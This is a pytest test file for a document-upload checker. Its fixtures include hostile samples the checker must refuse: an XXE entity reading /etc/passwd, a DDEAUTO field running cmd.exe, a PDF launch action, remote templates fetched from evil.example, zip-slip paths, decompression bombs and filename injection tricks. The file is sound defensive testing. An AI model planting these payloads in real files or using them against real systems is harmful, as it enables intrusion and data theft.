"""The upload zoo: whatever is not a plain file of a kind that is kept is refused, with the right sentence."""

from __future__ import annotations

import io
import random
import zipfile

import pytest

from oversight.foundation.documents import names, sandbox
from oversight.foundation.documents.looking import findings
from oversight.foundation.documents.looking.findings import Unfit
from oversight.foundation.documents.looking.images import without_told
from oversight.foundation.documents.looking.kinds import look
from tests.foundation.documents import zoo
from tests.gateways.scanner.fake_clamd import EICAR

HYPERLINK = zoo.rels(
    ("hyperlink", "https://www.example.org/", zoo.EXTERNAL), ("hyperlink", "mailto:a@b.example", zoo.EXTERNAL)
)
SOUND = {
    "plain.pdf": zoo.pdf(),
    "packed.pdf": zoo.pdf(zoo.object_stream(b"5 0 <</Type/Page>>")),
    "words-in-a-stream.pdf": zoo.pdf(b"9 0 obj<<>>stream\nBT (/JavaScript) Tj ET\nendstream endobj"),
    "plain.docx": zoo.docx(),
    "linked.docx": zoo.docx(relations=HYPERLINK),
    "page-number.docx": zoo.docx(body=zoo.field(" PAGE ", r"\* MERGEFORMAT")),
    "says-dde.docx": zoo.docx(body="The word DDEAUTO in a sentence"),
    "picture.docx": zoo.docx({"word/media/image1.png": zoo.png()}),
    "printer.xlsx": zoo.xlsx({"xl/printerSettings/printerSettings1.bin": b"\\\\printer\0"}),
    "plain.xlsx": zoo.xlsx(),
    "plain.csv": b"Name,Beds\r\nAcorn Lodge,24\r\n",
    "excel.csv": "\ufeffName,Cost\r\nAcorn Lodge,£1\r\n".encode(),
    "old.csv": "Name,Cost\r\nAcorn Lodge,£1\r\n".encode("cp1252"),
    "formula.csv": b"=HYPERLINK(1),@SUM(1)\r\n",
    "plain.txt": b"Words\n",
    "utf16.txt": "Words\n".encode("utf-16"),
    "eicar.txt": EICAR,
    "plain.png": zoo.png(),
    "plain.jpg": zoo.jpg(),
    "taken.JPEG": zoo.jpg(2, 2, zoo.exif()),
    "plain.eml": zoo.eml(),
    "carries.eml": zoo.eml(("a.docx", "application/octet-stream", zoo.docx()), ("b.png", "image/png", zoo.png())),
}  # fmt: skip


@pytest.mark.parametrize("name", SOUND)
def test_sound_files_are_kept(name):
    ending = name.rpartition(".")[2].lower()
    assert look(SOUND[name], name) == {"jpeg": "jpg"}.get(ending, ending)


TEMPLATE = zoo.rels(("attachedTemplate", "https://evil.example/t.dotm", zoo.EXTERNAL))
UNC = zoo.rels(("image", "file://server/share/x.png", zoo.EXTERNAL))
SCRIPT_LINK = zoo.rels(("hyperlink", "javascript:alert(1)", zoo.EXTERNAL))
QUIET_TEMPLATE = zoo.rels(("attachedTemplate", "https://evil.example/t.dotm", ""))
LAUGHS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
MACROSHEET = "application/vnd.ms-excel.macrosheet+xml"
ZIP = zoo.zipped({"a.txt": "x"})
BAD = {
    # not what the name says, or no kind that is kept
    "program.exe": (b"MZ\x90\0", findings.WRONG_TYPE),
    "noending": (b"x", findings.WRONG_TYPE),
    "picture.svg": (b'<svg onload="alert(1)"/>', findings.WRONG_TYPE),
    "page.html": (b"<html>", findings.WRONG_TYPE),
    "two.pdf.exe": (zoo.pdf(), findings.WRONG_TYPE),
    "macro.docm": (zoo.docx(main=zoo.MACRO_WORD), findings.WRONG_TYPE),
    "old.doc": (zoo.OLE, findings.WRONG_TYPE),
    "archive.zip": (ZIP, findings.WRONG_TYPE),
    "svg.png": (b"<svg/>", findings.WRONG_TYPE),
    "svg.txt": (b" <svg onload='x'/>", findings.WRONG_TYPE),
    "html.csv": (b"<!DOCTYPE html><script>", findings.WRONG_TYPE),
    "xml.txt": (b"<?xml version='1.0'?><x/>", findings.WRONG_TYPE),
    "program.txt": (b"MZ\x90\0\3", findings.WRONG_TYPE),
    "binary.csv": (b"a,b\0c", findings.WRONG_TYPE),
    "escape.txt": (b"\x1b]0;x\x07", findings.WRONG_TYPE),
    "pdf.txt": (zoo.pdf(), findings.WRONG_TYPE),
    "png.jpg": (zoo.png(), findings.WRONG_TYPE),
    "jpg.png": (zoo.jpg(), findings.WRONG_TYPE),
    "docx.xlsx": (zoo.docx(), findings.WRONG_TYPE),
    "zip.docx": (ZIP, findings.WRONG_TYPE),
    "text.docx": (b"words", findings.WRONG_TYPE),
    "ole.docx": (zoo.OLE + b"WordDocument", findings.WRONG_TYPE),
    "template.docx": (zoo.docx(main=zoo.WORD.replace("document.main", "template.main")), findings.WRONG_TYPE),
    "late.pdf": (b"MZ " + zoo.pdf(), findings.WRONG_TYPE),
    "words.eml": (b"Only words\n", findings.WRONG_TYPE),
    "empty.pdf": (b"", findings.EMPTY),
    "large.txt": (b"x" * (findings.LARGEST_FILE + 1), findings.TOO_LARGE),
    # polyglots
    "zip.pdf": (zoo.pdf() + ZIP + b"%%EOF", findings.EMBEDDED),
    "zip.png": (zoo.png() + ZIP, findings.EMBEDDED),
    "after.png": (zoo.png() + b"<script>alert(1)</script>", findings.EMBEDDED),
    "zip.jpg": (zoo.jpg() + ZIP, findings.EMBEDDED),
    "before.docx": (b"PK\x03\x04" + b"\0" * 40 + zoo.docx(), findings.EMBEDDED),
    # macros
    "renamed.docx": (zoo.docx(main=zoo.MACRO_WORD), findings.MACROS),
    "renamed.xlsx": (zoo.xlsx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), findings.MACROS),
    "vba.docx": (zoo.docx({"word/vbaProject.bin": b"x"}), findings.MACROS),
    "vba-typed.docx": (zoo.docx({"word/x.bin": b"x"}, also=("application/vnd.ms-office.vbaProject",)), findings.MACROS),
    "vba-related.docx": (zoo.docx({"word/x.bin": b"x"}, relations=zoo.rels(("vbaProject", "x.bin", ""))), findings.MACROS),
    "xlm.xlsx": (zoo.xlsx(also=(MACROSHEET,)), findings.MACROS),
    "activex.docx": (zoo.docx({"word/activeX/activeX1.xml": "<x/>"}), findings.MACROS),
    # what brings in more
    "remote-template.docx": (zoo.docx(relations=TEMPLATE), findings.LINKED),
    "quiet-template.docx": (zoo.docx(relations=QUIET_TEMPLATE), findings.LINKED),
    "unc-picture.docx": (zoo.docx(relations=UNC), findings.LINKED),
    "script-link.docx": (zoo.docx(relations=SCRIPT_LINK), findings.LINKED),
    "external-book.xlsx": (zoo.xlsx({"xl/externalLinks/_rels/e.xml.rels": zoo.rels(("externalLinkPath", "b.xlsx", zoo.EXTERNAL))}), findings.LINKED),
    "external-typed.xlsx": (zoo.xlsx(also=("application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",)), findings.LINKED),
    "connection.xlsx": (zoo.xlsx(also=("application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",)), findings.LINKED),
    "dde.docx": (zoo.docx(body=zoo.field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), findings.LINKED),
    "dde-in-pieces.docx": (zoo.docx(body=zoo.field("DD", "EAU", "TO c:")), findings.LINKED),
    "include.docx": (zoo.docx(body=zoo.field(' INCLUDEPICTURE "https://evil.example/x.png"')), findings.LINKED),
    # files in files
    "ole-object.docx": (zoo.docx({"word/embeddings/oleObject1.bin": zoo.OLE + b"x"}), findings.EMBEDDED),
    "book-in.docx": (zoo.docx({"word/embeddings/sheet.xlsx": zoo.xlsx()}), findings.EMBEDDED),
    "program-in.docx": (zoo.docx({"word/media/image1.png": b"MZ\x90\0"}), findings.EMBEDDED),
    "rar-in.xlsx": (zoo.xlsx({"xl/media/x.bin": b"Rar!\x1a\x07\0"}), findings.EMBEDDED),
    "file-in.pdf": (zoo.pdf(b"5 0 obj<</Type/EmbeddedFile>>endobj"), findings.EMBEDDED),
    "mail-in.eml": (zoo.eml(("m.eml", "message/rfc822", zoo.eml())), findings.EMBEDDED),
    "program-in.eml": (zoo.eml(("x.exe", "application/octet-stream", b"MZ\x90")), findings.ACTIVE),
    "macro-in.eml": (zoo.eml(("x.docx", "application/octet-stream", zoo.docx(main=zoo.MACRO_WORD))), findings.MACROS),
    "svg-in.eml": (zoo.eml(("x.svg", "image/svg+xml", b"<svg/>")), findings.ACTIVE),
    # what runs
    "script.pdf": (zoo.pdf(b"5 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj"), findings.ACTIVE),
    "hex-script.pdf": (zoo.pdf(b"5 0 obj<</S/J#61vaScript>>endobj"), findings.ACTIVE),
    "packed-script.pdf": (zoo.pdf(zoo.object_stream(b"5 0 <</S/JavaScript>>")), findings.ACTIVE),
    "hex-packed-script.pdf": (zoo.pdf(zoo.object_stream(b"5 0 <</S/JavaScript>>", b"/Obj#53tm")), findings.ACTIVE),
    "launch.pdf": (zoo.pdf(b"5 0 obj<</S/Launch/F(cmd.exe)>>endobj"), findings.ACTIVE),
    # locked
    "locked.pdf": (zoo.pdf(trailer=b"/Encrypt 9 0 R"), findings.PASSWORD),
    "locked.docx": (zoo.OLE + "EncryptedPackage".encode("utf-16-le"), findings.PASSWORD),
    "locked.xlsx": (zoo.patched(zoo.xlsx(), 0, flags=1), findings.PASSWORD),
    # too much inside
    "bomb.docx": (zoo.bomb(), findings.UNPACKS),
    "says-large.docx": (zoo.patched(zoo.docx(), 2, file_size=300 * 1024 * 1024), findings.UNPACKS),
    "entries.docx": (zoo.docx({f"word/x{n}.txt": "" for n in range(2000)}), findings.UNPACKS),
    "overlap.docx": (zoo.patched(zoo.docx(), 2, offset=0), findings.UNPACKS),
    "bomb.pdf": (zoo.pdf(zoo.object_stream(b"\0" * (40 * 1024 * 1024))), findings.UNPACKS),
    "pages.pdf": (zoo.pdf(b"5 0 obj<</Type/Page>>endobj\n" * 2001), findings.PAGES),
    "pixels.png": (zoo.png(20_000, 20_000), findings.PIXELS),
    "pixels.jpg": (zoo.jpg(60_000, 60_000), findings.PIXELS),
    # tricks
    "laughs.docx": (zoo.docx({"word/laughs.xml": LAUGHS}), findings.UNREADABLE),
    "entity.xlsx": (zoo.xlsx({"xl/styles.xml": XXE}), findings.UNREADABLE),
    "entity-utf16.docx": (zoo.docx({"word/x.xml": '<?xml version="1.0" encoding="utf-16"?>'.encode("utf-16") + XXE.encode("utf-16")[2:]}), findings.UNREADABLE),
    "broken-xml.docx": (zoo.docx({"word/x.xml": "<a>"}), findings.UNREADABLE),
    "slip.docx": (zoo.docx({"../../etc/cron.d/x": "x"}), findings.UNREADABLE),
    "root.docx": (zoo.docx({"/etc/x": "x"}), findings.UNREADABLE),
    "drive.docx": (zoo.docx({"C:x": "x"}), findings.UNREADABLE),
    "twice.docx": (zoo.with_entry_twice(), findings.UNREADABLE),
    "method.docx": (zoo.patched(zoo.docx(), 2, method=14), findings.UNREADABLE),
    "cut.docx": (zoo.docx()[:-30], findings.UNREADABLE),
    "cut.pdf": (zoo.pdf()[:60], findings.UNREADABLE),
    "cut.png": (zoo.png()[:-8], findings.UNREADABLE),
    "cut.jpg": (zoo.jpg()[:24], findings.UNREADABLE),
    "none.png": (zoo.png(0, 0), findings.UNREADABLE),
    "strange-stream.pdf": (zoo.pdf(b"4 0 obj<</Type/ObjStm>>stream\nnot packed\nendstream endobj"), findings.UNREADABLE),
}  # fmt: skip


@pytest.mark.parametrize("name", BAD)
def test_the_zoo_is_refused(name):
    content, sentence = BAD[name]
    with pytest.raises(Unfit) as why:
        look(content, name)
    assert str(why.value) == sentence


def test_a_part_that_is_larger_than_it_says_is_refused():
    """The directory says 30 bytes; three million come out."""
    content = zoo.bomb()
    lies = zoo.patched(content, 3, file_size=30)
    with pytest.raises(Unfit):
        look(lies, "lies.docx")


@pytest.mark.parametrize(
    "name", [name for name in SOUND if name.endswith(("docx", "xlsx", "pdf", "png", "jpg", "eml"))]
)
def test_a_damaged_file_is_refused_or_kept_and_nothing_else(name):
    """Bits turned over, pieces cut out and put in: always an answer, never an error."""
    chance = random.Random(name)
    for _ in range(150):
        content = bytearray(SOUND[name])
        for _ in range(chance.randint(1, 6)):
            place = chance.randrange(len(content))
            match chance.randrange(3):
                case 0:
                    content[place] ^= 1 << chance.randrange(8)
                case 1:
                    del content[place : place + chance.randint(1, 40)]
                case _:
                    content[place:place] = chance.randbytes(chance.randint(1, 40))
            if not content:
                break
        try:
            look(bytes(content), name)
        except Unfit:
            continue


class TestNames:
    @pytest.mark.parametrize(
        ("given", "kept"),
        [
            ("C:\\Users\\me\\Report.pdf", "Report.pdf"),
            ("../../etc/passwd.txt", "passwd.txt"),
            ("invoice\u202efdp.exe", "invoicefdp.exe"),
            ("a\r\nSet-Cookie: x.txt", "aSet-Cookie x.txt"),
            ("a\0.txt", "a.txt"),
            ('we"ird<name>|?.txt', "we ird name .txt"),
            ("...", "file"),
            ("", "file"),
        ],
    )
    def test_they_show_what_they_are(self, given, kept):
        assert names.cleaned(given) == kept

    def test_long_ones_keep_their_ending(self):
        kept = names.cleaned("x" * 300 + ".docx")
        assert len(kept) == names.LONGEST
        assert kept.endswith("x.docx")
        assert len(names.cleaned("." + "y" * 300)) <= names.LONGEST


class TestSandbox:
    def test_it_says_the_same(self, tmp_path):
        path = tmp_path / "x"
        path.write_bytes(zoo.docx())
        assert sandbox.look(path, "plain.docx") == "docx"
        path.write_bytes(zoo.docx(relations=TEMPLATE))
        with pytest.raises(Unfit, match="brings in other files"):
            sandbox.look(path, "x.docx")

    @pytest.mark.parametrize(
        "body",
        ["while True: pass", "bytearray(700 * 1024 * 1024)", "raise SystemExit(3)", "print('nonsense')",
         "open('/tmp/oversight-should-not-write', 'w').write('x')"],
    )  # fmt: skip
    def test_a_child_that_takes_too_much_is_stopped(self, tmp_path, body):
        """No endless looking, no flood of memory, no writing: the file is refused and the service goes on."""
        path = tmp_path / "x"
        path.write_bytes(b"words")
        start = (
            "import sys; sys.path.insert(0, sys.argv.pop(1))\n"
            f"from oversight.foundation.documents.looking.child import limit; limit()\n{body}\n"
        )
        with pytest.raises(Unfit, match="cannot be read"):
            sandbox.look(path, "x.txt", seconds=2, start=start)


class TestPictures:
    def test_what_a_camera_wrote_is_taken_out_and_which_way_up_stays(self):
        taken = zoo.jpg(
            2, 2, zoo.exif(way_up=6), zoo.segment(0xFE, b"taken by me"), zoo.segment(0xED, b"Photoshop")
        )
        plain = without_told(taken, "jpg")
        assert b"51.5N" in taken
        assert not any(each in plain for each in (b"51.5N", b"taken by me", b"Photoshop"))
        assert b"\x01\x12\x00\x03\x00\x00\x00\x01\x00\x06" in plain
        assert look(plain, "x.jpg") == "jpg"
        assert plain.endswith(b"\x12\x34\xff\xd9")

    def test_the_right_way_up_needs_no_word(self):
        assert b"Exif" not in without_told(zoo.jpg(2, 2, zoo.exif(way_up=1)), "jpg")

    def test_png(self):
        taken = zoo.png(2, 2, zoo.chunk(b"tEXt", b"Author\0me"), zoo.chunk(b"eXIf", b"II*\0"))
        assert without_told(taken, "png") == zoo.png()

    def test_nothing_else_of_it_changes(self):
        assert without_told(zoo.jpg(), "jpg") == zoo.jpg()
        assert without_told(zoo.png(), "png") == zoo.png()


def test_a_real_workbook_passes(tmp_path):
    """One that a library writes, with its pictures of cells, links and printer settings."""
    import xlsxwriter

    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Services")
        for row in range(2000):
            sheet.write_row(row, 0, ["Acorn Lodge", 24, "RG14 1AA"])
        sheet.write_url(0, 5, "https://www.example.org/")
        chart = book.add_chart({"type": "bar"})
        chart.add_series({"values": "=Services!$B$1:$B$9"})
        sheet.insert_chart("H2", chart)
    assert look(out.getvalue(), "services.xlsx") == "xlsx"
    assert len(zipfile.ZipFile(out).namelist()) > 8
